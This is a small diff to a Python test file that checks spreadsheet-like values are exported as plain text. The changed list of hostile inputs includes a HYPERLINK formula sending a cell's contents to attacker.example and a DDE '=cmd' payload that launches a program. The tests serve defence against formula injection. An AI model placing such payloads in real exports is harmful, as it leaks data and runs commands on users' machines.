@@ -130,7 +130,7 @@ def test_libreoffice_reads_the_same_values_as_the_csv_export(tmp_path):
 
 
 HOSTILE = ['=HYPERLINK("http://attacker.example/?"&C2,"詳細")', "\t=1+1", "+1+1", "-1+1",
-           "@SUM(1+1)", "=cmd|' /C calc'!A0", "#REF!", "\r=2+2"]
+           "@SUM(1+1)", "=cmd|' /C calc'!A0", "#REF!", " =2+2"]
 
 
 def test_values_that_look_like_formulas_are_written_as_plain_text(tmp_path):
